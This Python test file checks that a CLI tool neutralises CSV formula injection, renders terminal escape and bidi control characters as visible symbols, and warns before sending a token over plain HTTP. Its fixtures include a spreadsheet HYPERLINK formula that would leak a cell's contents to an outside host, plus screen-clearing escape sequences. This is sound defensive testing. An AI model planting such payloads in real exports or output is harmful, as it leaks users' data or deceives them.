"""Data printed for people is harmless: CSV cells are no formulas, table cells no escapes."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest
from click.testing import CliRunner

from upg.audit.transport import sends_token_in_clear
from upg.cli import listings, output
from upg.cli.audit import audit
from upg.model.audit import MilestoneAuditEntry, MilestoneClass, Ref
from upg.model.evidence import Table, evaluate
from upg.model.nodes import Node
from upg.services.evidence import EvidenceRow

FORMULA = '=HYPERLINK("http://x/?"&A1,"x")'
ESCAPES = "Evil\x1b[2J\x07 title"


def outcome(title: str, tags: tuple[str, ...] = ()) -> Node:
    return Node(id="o1", type="OUTCOME", title=title, status="active", tags=tags)


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_a_formula_title_is_neutralised_in_csv() -> None:
    text = output.render(listings.outcome_listing([outcome(FORMULA)]), "csv")
    assert text.splitlines()[1].startswith('"\'=HYPERLINK(""http://x/?""&A1,""x"")"')
    assert csv_rows(text)[1][0] == "'" + FORMULA


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    listing = listings.outcome_listing([outcome(f"{start}1+1", tags=(f"{start}cmd",))])
    [_, row] = csv_rows(output.render(listing, "csv"))
    assert row[0] == f"'{start}1+1"
    assert row[2] == f"'{start}cmd"


def test_harmless_cells_are_unchanged() -> None:
    assert output.csv_cell("Profile completed") == "Profile completed"
    assert output.csv_cell("a, b") == '"a, b"'
    assert output.csv_cell("x=1") == "x=1"  # only a leading sign makes a formula
    assert output.csv_cell("-0.25", text=False) == "-0.25"


def test_negative_numbers_stay_numbers() -> None:
    [computed] = evaluate([("m", "o", Table(1, 9, 5, 5))])
    assert computed.risk_difference is not None and computed.risk_difference < 0
    milestone = Node(id="m", type="SUCCESS_MILESTONE", title="-Lost", status="todo")
    row = EvidenceRow(computed, milestone, outcome("Renewed"), True)
    listing = listings.evidence_listing([row], datetime(2026, 11, 23, tzinfo=UTC))
    [header, cells] = csv_rows(output.render(listing, "csv"))
    by_name = dict(zip(header, cells, strict=True))
    assert by_name["milestone"] == "'-Lost"  # text
    assert by_name["risk_difference"] == f"{computed.risk_difference:.6g}"  # a number
    assert float(by_name["risk_difference"]) < 0


def test_json_and_ndjson_stay_verbatim() -> None:
    listing = listings.outcome_listing([outcome(FORMULA)])
    assert json.loads(output.render(listing, "json"))["unmeasured_outcomes"][0]["title"] == FORMULA
    assert json.loads(output.render(listing, "ndjson"))["title"] == FORMULA


def test_table_shows_control_characters_as_symbols() -> None:
    listing = listings.outcome_listing([outcome(ESCAPES, tags=("\x9b31m", "a\u202eb"))])
    text = output.render(listing, "table")
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text
    assert "\u202e" not in text
    assert "Evil\u241b[2J\u2407 title" in text
    stream = io.StringIO()
    output.print_table(listing, stream)
    assert "\x1b" not in stream.getvalue() and "\u241b[2J" in stream.getvalue()


def test_table_does_not_read_markup_in_data() -> None:
    entry = MilestoneAuditEntry(
        Node(id="m", type="SUCCESS_MILESTONE", title="[red]Alarm[/red]", status="todo"),
        MilestoneClass.ORPHAN,
        (Ref("p", "[bold]P[/bold]"),),
        (),
        (),
    )
    text = output.render(listings.milestone_listing([entry]), "table")
    assert "[red]Alarm[/red]" in text and "[bold]P[/bold]" in text


def test_visible() -> None:
    assert output.visible("a\x1b[2Jb\x07\x7f\x00") == "a\u241b[2Jb\u2407\u2421\u2400"
    assert output.visible("\x85\u202e\u2066") == "\\u0085\\u202e\\u2066"
    assert output.visible("Café ✓ — fine") == "Café ✓ — fine"


@pytest.mark.parametrize(
    ("url", "token", "warned"),
    [
        ("http://api.example.com", "t", True),
        ("http://10.0.0.5:8000", "t", True),
        ("http://0.0.0.0:8000", "t", True),
        ("http://[2001:db8::1]:8000", "t", True),
        ("http://localhost:8000", "t", False),
        ("http://LOCALHOST.:8000", "t", False),
        ("http://127.0.0.1:8000", "t", False),
        ("http://127.9.9.9", "t", False),
        ("http://[::1]:8000", "t", False),
        ("https://api.example.com", "t", False),
        ("http://api.example.com", None, False),
        ("http://api.example.com", "", False),
    ],
)
def test_sends_token_in_clear(url: str, token: str | None, warned: bool) -> None:
    assert sends_token_in_clear(url, token) is warned


def test_cli_warns_before_sending_a_token_in_clear() -> None:
    # Nothing listens on port 1: the request fails at once, after the warning.
    runner = CliRunner()
    result = runner.invoke(audit, ["outcomes", "--api", "http://0.0.0.0:1", "--token", "secret"])
    assert result.exit_code == 2
    lines = result.stderr.splitlines()
    assert len(lines) == 2, result.stderr
    assert lines[0].startswith("upg: warning: sending the token over plain HTTP")
    assert lines[1].startswith("upg: error: cannot reach the upg API")
    for quiet in (
        ["--api", "http://127.0.0.1:1", "--token", "secret"],
        ["--api", "http://0.0.0.0:1"],
    ):
        result = runner.invoke(audit, ["outcomes", *quiet], env={"UPG_TOKEN": ""})
        assert result.exit_code == 2
        assert "warning" not in result.stderr, quiet
